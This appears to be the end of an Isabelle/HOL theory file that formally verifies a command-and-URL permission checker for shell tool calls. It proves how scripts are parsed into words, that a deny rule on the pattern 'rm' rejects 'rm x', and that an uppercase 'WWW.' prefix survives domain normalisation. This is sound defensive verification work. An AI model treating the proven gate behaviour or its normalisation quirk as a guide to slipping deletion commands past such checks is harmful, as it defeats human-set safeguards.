     (\<exists>h. host_str url = Some h \<and>
        (\<exists>raw \<in> set raws. entry_permits E raw (normalize_domain E h) (to_lowercase E (url_path url))))"
proof -
  have "matcher_check E M url = None \<longleftrightarrow>
      (\<exists>h. host_str url = Some h \<and> table_permits M (normalize_domain E h) (to_lowercase E (url_path url)))" for M
    by (auto simp: matcher_check_def table_permits_def Let_def split: option.splits HostEntry.splits if_splits)
  then show ?thesis by (simp add: table_permits_new)
qed

section \<open>Concrete surroundings\<close>

text \<open>A parser that reads a script as one command, its words separated by blanks, and surroundings in
  which patterns are matched as prefixes only.\<close>

definition word_node :: "rstr \<Rightarrow> Node" where
  "word_node w = Node (lit ''word'') True None 0 0 (Some w) []"

definition command_node :: "rstr list \<Rightarrow> Node" where
  "command_node ws =
     Node (lit ''command'') True None 0 0 None
       (case ws of
          [] \<Rightarrow> []
        | w # rest \<Rightarrow>
            Node (lit ''command_name'') True (Some (lit ''name'')) 0 0 (Some w) [word_node w] # map word_node rest)"

definition one_command_parser :: ShellParser where
  "one_command_parser s =
     Some \<lparr>root_node = Node (lit ''program'') True None 0 0 (Some s) [command_node (split_on 32 s)],
           has_error = False\<rparr>"

definition plain_surroundings :: Externals where
  "plain_surroundings =
     \<lparr>glob_new = (\<lambda>p. False), glob_matches_with = (\<lambda>p sep t. False), url_parse = (\<lambda>u. None),
      to_lowercase = ascii_lower, try_parse_shell = one_command_parser,
      canonicalize = (\<lambda>p. Some p), is_symlink = (\<lambda>p. False), read_link = (\<lambda>p. None)\<rparr>"

lemma dfs_words: "dfs (rev (map word_node ws) @ st) = rev (map word_node ws) @ dfs st"
proof (induction ws arbitrary: st)
  case (Cons w ws)
  have "dfs (word_node w # st) = word_node w # dfs st" by (simp add: word_node_def)
  with Cons [of "word_node w # st"] show ?case by simp
qed simp

lemma word_node_simps [simp]:
  "plain_word (word_node w) = Some (Some (w, word_node w))" "start_byte (word_node w) = 0"
  "end_byte (word_node w) = 0"
  by (simp_all add: plain_word_def word_node_def)

lemma plain_loop_words:
  "plain_loop (map word_node ws) acc (Some 0) (Some 0) = Some (acc @ ws, Some 0, Some 0)"
  by (induction ws arbitrary: acc) simp_all

text \<open>A script is read as the one command made of its words.\<close>

lemma all_commands_one:
  "all_commands_from_script one_command_parser s = Some [\<lparr>words = split_on 32 s, span_start = 0, span_end = 0\<rparr>]"
proof -
  obtain w rest where ws: "split_on 32 s = w # rest" using split_on_not_Nil [of 32 s] by (cases "split_on 32 s") auto
  define nm where "nm = Node (lit ''command_name'') True (Some (lit ''name'')) 0 0 (Some w) [word_node w]"
  define cmd where "cmd = command_node (w # rest)"
  have ch: "children cmd = nm # map word_node rest" "kind cmd = lit ''command''" "is_named cmd" "start_byte cmd = 0"
    by (simp_all add: cmd_def command_node_def nm_def)
  have "dfs [nm] = [nm, word_node w]" by (simp add: nm_def word_node_def)
  then have "dfs [cmd] = cmd # rev (map word_node rest) @ [nm, word_node w]"
    using dfs_words [of rest "[nm]"] ch(1) by simp
  then have nodes: "dfs [Node (lit ''program'') True None 0 0 (Some s) [cmd]]
      = [Node (lit ''program'') True None 0 0 (Some s) [cmd], cmd] @ rev (map word_node rest) @ [nm, word_node w]"
    by simp
  have word: "\<not> node_rejected (word_node v)" "kind (word_node v) \<noteq> lit ''command''" "is_named (word_node v)" for v
    by (simp_all add: node_rejected_def word_node_def ALLOWED_KINDS_def)
  have others: "\<not> node_rejected (Node (lit ''program'') True None 0 0 (Some s) [cmd])" "\<not> node_rejected cmd"
    "\<not> node_rejected nm" "kind nm \<noteq> lit ''command''"
    using ch by (simp_all add: node_rejected_def nm_def ALLOWED_KINDS_def)
  have "plain_word nm = Some (Some (w, word_node w))"
    by (simp add: plain_word_def nm_def named_children_def word_node_def)
  moreover have "named_children cmd = nm # map word_node rest"
    using word(3) by (simp add: named_children_def ch nm_def filter_True)
  ultimately have "parse_plain_command_from_node cmd = Some \<lparr>words = w # rest, span_start = 0, span_end = 0\<rparr>"
    using ch by (simp add: parse_plain_command_from_node_def plain_loop_words)
  moreover have "filter (\<lambda>n. is_named n \<and> kind n = lit ''command'') (dfs [Node (lit ''program'') True None 0 0 (Some s) [cmd]])
      = [cmd]"
    unfolding nodes using ch word(2) others(4) by (simp add: filter_empty_conv)
  moreover have "\<not> (\<exists>n \<in> set (dfs [Node (lit ''program'') True None 0 0 (Some s) [cmd]]). node_rejected n)"
    unfolding nodes using word(1) others by auto
  ultimately show ?thesis
    by (simp add: all_commands_from_script_def one_command_parser_def try_parse_word_only_commands_sequence_def
        cmd_def [symmetric] ws Let_def del: dfs.simps)
qed

lemma one_command_gate:
  assumes "\<forall>ws \<in> set (command_forms (split_on 32 cmd)). shell_dash_c_script ws = None"
  shows "evaluate_bash_command_segments (Suc n) plain_surroundings P cmd
     = fold (\<lambda>ws d. combine_decisions d (escalate (evaluate plain_surroundings P (Bash (join [32] ws)))))
         (command_forms (split_on 32 cmd)) None"
proof -
  have "try_parse_shell plain_surroundings = one_command_parser" by (simp add: plain_surroundings_def)
  then show ?thesis using assms by (auto simp: all_commands_one Let_def intro!: fold_cong)
qed

definition deny_rm :: PermissionConfig where
  "deny_rm = config_new [\<lparr>action = RuleDeny, tool = FBash, pattern = Some (lit ''rm''), pattern_mode = Glob\<rparr>]"

text \<open>This policy rejects the commands whose text begins with \<open>rm\<close>.\<close>

lemma evaluate_deny_rm:
  "evaluate plain_surroundings (compiled_new plain_surroundings deny_rm) (Bash cmd) =
     (if starts_with (lit ''rm'') (trim_start cmd) then Some (Reject (deny_reason (hd (rules deny_rm)))) else None)"
  by (simp add: evaluate_compiled deny_rm_def config_new_def pattern_matches_def compile_matcher_def
      plain_surroundings_def glob_matches_def)

theorem policy_strongest_rule_witness:
  "evaluate plain_surroundings (compiled_new plain_surroundings deny_rm) (Bash (lit ''rm x''))
       = Some (Reject (deny_reason (hd (rules deny_rm))))
   \<and> (\<exists>r \<in> set (rules deny_rm). rule_applies plain_surroundings (Bash (lit ''rm x'')) r \<and> action r = RuleDeny)"
proof -
  have "evaluate plain_surroundings (compiled_new plain_surroundings deny_rm) (Bash (lit ''rm x''))
       = Some (Reject (deny_reason (hd (rules deny_rm))))"
    unfolding evaluate_deny_rm by (simp add: trim_start_def is_whitespace_def)
  with policy_strongest_rule [of plain_surroundings deny_rm "Bash (lit ''rm x'')"] show ?thesis by blast
qed


text \<open>An upper-case \<open>WWW.\<close> survives the normalisation of a pattern: the prefix is taken off before
  the letters are lowered.\<close>

theorem uppercase_www_kept:
  "normalize_domain plain_surroundings (lit ''WWW.Example.com'') = lit ''www.example.com''
   \<and> normalize_domain plain_surroundings (lit ''www.example.com'') = lit ''example.com''"
  by (simp add: normalize_domain_def plain_surroundings_def trim_def trim_start_def trim_end_def
      trim_end_matches_def is_whitespace_def ascii_lower_def)

end
